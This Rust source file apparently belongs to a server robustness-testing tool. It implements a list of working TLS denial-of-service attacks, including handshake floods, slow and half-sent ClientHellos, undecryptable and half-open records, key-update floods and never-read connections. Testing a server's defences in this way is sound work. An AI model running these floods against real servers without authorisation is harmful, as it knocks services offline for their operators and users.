//! Attacks on TLS, and the TLS client that behaves well.

use std::io::{Read, Result, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::Duration;

use rustls::client::ClientConnection;
use rustls::crypto::aws_lc_rs;
use rustls::{DEFAULT_VERSIONS, StreamOwned};
use socket2::SockRef;

use super::attacks::{connect, crowd, hold, message, pause, send_slowly, shake_hands};
use super::{Attack, Stream, Target};
use crate::random::SplitMix;
use crate::tls::{client, name};

/// The attacks of `abuse --tls`. A new one is a function and a line here.
pub(super) const ALL: &[(&str, Attack)] = &[
    ("TLS: none", |target| hold::<TcpStream>(target, &[])),
    ("TLS: flood of handshakes", flood_of_handshakes),
    ("TLS: slow ClientHello", |target| send_slowly(target, crowd(target, connect), &client_hello())),
    ("TLS: half of a ClientHello", |target| half(target, &client_hello())),
    ("TLS: plain HTTP", |target| repeat(target, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")),
    ("TLS: garbage", garbage),
    ("TLS: half-open records", half_open_records),
    ("TLS: records that do not decrypt", wrong_records),
    ("TLS: flood of key updates", flood_of_key_updates),
    ("TLS: a record for each byte", |target| flood(target, records_of_one_byte)),
    ("TLS: flood of messages", |target| {
        flood(target, |session| session.writer().write(&message(b"x").repeat(1000)));
    }),
    ("TLS: never reading", |target| {
        flood(target, |session| session.writer().write(&message(&[b'x'; 16 << 10])));
    }),
    ("TLS: silent clients", |target| hold(target, &crowd(target, open))),
];

/// A TLS connection.
type Tls = StreamOwned<ClientConnection, TcpStream>;

impl Stream for Tls {
    fn set_patience(&self, patience: Duration) -> Result<()> {
        self.sock.set_read_timeout(Some(patience))
    }
}

/// A session before its handshake, without resumption.
fn session() -> Option<ClientConnection> {
    let mut config = client(aws_lc_rs::default_provider(), DEFAULT_VERSIONS).ok()?;
    config.resumption = rustls::client::Resumption::disabled();
    let mut session = ClientConnection::new(Arc::new(config), name()).ok()?;
    session.set_buffer_limit(None);
    Some(session)
}

/// Opens a connection with both complete handshakes.
pub(super) fn open(target: &Target) -> Option<Tls> {
    shake_hands(StreamOwned::new(session()?, connect(target)?))
}

/// A valid ClientHello.
fn client_hello() -> Vec<u8> {
    let mut bytes = Vec::new();
    if let Some(mut session) = session() {
        let _ = session.write_tls(&mut bytes); // memory takes everything
    }
    bytes
}

/// Sends the same ClientHello on many connections and resets them when the server has answered. The
/// server signs and agrees on keys each time, and the attacker computes nothing.
fn flood_of_handshakes(target: &Target) {
    let hello = client_hello();
    while !target.is_over() {
        let streams: Vec<_> = (0..30).filter_map(|_| connect(target)).collect();
        for mut stream in &streams {
            let _ = stream.write_all(&hello);
        }
        for mut stream in &streams {
            let _ = stream.read(&mut [0]); // an error is the server's defence
            let _ = SockRef::from(stream).set_linger(Some(Duration::ZERO));
        }
    }
}

/// Sends half of some bytes on all connections, and then nothing.
fn half(target: &Target, bytes: &[u8]) {
    let streams = crowd(target, connect);
    for mut stream in &streams {
        let _ = stream.write_all(&bytes[..bytes.len() / 2]);
    }
    hold(target, &streams);
}

/// Sends the same bytes on new connections, and reads the answer.
fn repeat(target: &Target, bytes: &[u8]) {
    while !target.is_over() {
        let Some(mut stream) = connect(target) else { continue };
        let _ = stream.write_all(bytes);
        let _ = stream.read(&mut [0; 1024]);
        let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
    }
}

/// Random bytes with the header of a record of each type, before and after the handshakes.
fn garbage(target: &Target) {
    let mut random = SplitMix(7);
    while !target.is_over() {
        let stream = if random.below(2) == 0 { connect(target) } else { open(target).map(|tls| tls.sock) };
        let Some(mut stream) = stream else { continue };
        let kind = 20 + random.next().to_le_bytes()[0] % 5;
        let bytes = (0..30).flat_map(|_| random.next().to_le_bytes());
        let record: Vec<_> = [kind, 3, 3, 0, 200].into_iter().chain(bytes).collect();
        let _ = stream.write_all(&record);
        let _ = stream.read(&mut [0; 64]);
        let _ = SockRef::from(&stream).set_linger(Some(Duration::ZERO));
    }
}

/// Begins a record of the largest size on all open connections, and sends nearly all of it.
fn half_open_records(target: &Target) {
    let record = [&[23, 3, 3, 0x41, 0][..], &[0; 0x4000]].concat(); // 256 bytes are missing
    let streams = crowd(target, open);
    for stream in &streams {
        let _ = (&stream.sock).write_all(&record);
    }
    hold(target, &streams);
}

/// Sends whole records of the largest size that do not decrypt.
fn wrong_records(target: &Target) {
    let record = [&[23, 3, 3, 0x41, 0][..], &[0; 0x4100]].concat();
    while !target.is_over() {
        for stream in crowd(target, open).iter().take(30) {
            let _ = (&stream.sock).write_all(&record);
        }
    }
}

/// Asks for new keys again and again, and never reads the answers.
fn flood_of_key_updates(target: &Target) {
    flood(target, |session| {
        for _ in 0..100 {
            session.refresh_traffic_keys().map_err(std::io::Error::other)?;
        }
        Ok(0)
    });
}

/// Messages, and a record for each of their bytes.
fn records_of_one_byte(session: &mut ClientConnection) -> Result<usize> {
    for byte in message(b"x").repeat(200) {
        session.writer().write_all(&[byte])?;
    }
    Ok(0)
}

/// Sends on all connections what `fill` encrypts, and never reads. When the server has ended all
/// connections, others follow.
fn flood(target: &Target, fill: fn(&mut ClientConnection) -> Result<usize>) {
    let mut streams = Vec::new();
    while !target.is_over() {
        if streams.is_empty() {
            streams = crowd(target, open);
        }
        let mut is_stuck = true;
        streams.retain_mut(|stream: &mut Tls| {
            let _ = stream.sock.set_nonblocking(true);
            if !stream.conn.wants_write() && fill(&mut stream.conn).is_err() {
                return false;
            }
            match stream.conn.write_tls(&mut stream.sock) {
                Ok(_) => is_stuck = false,
                Err(error) => return error.kind() == std::io::ErrorKind::WouldBlock,
            }
            true
        });
        if is_stuck {
            pause();
        }
    }
}
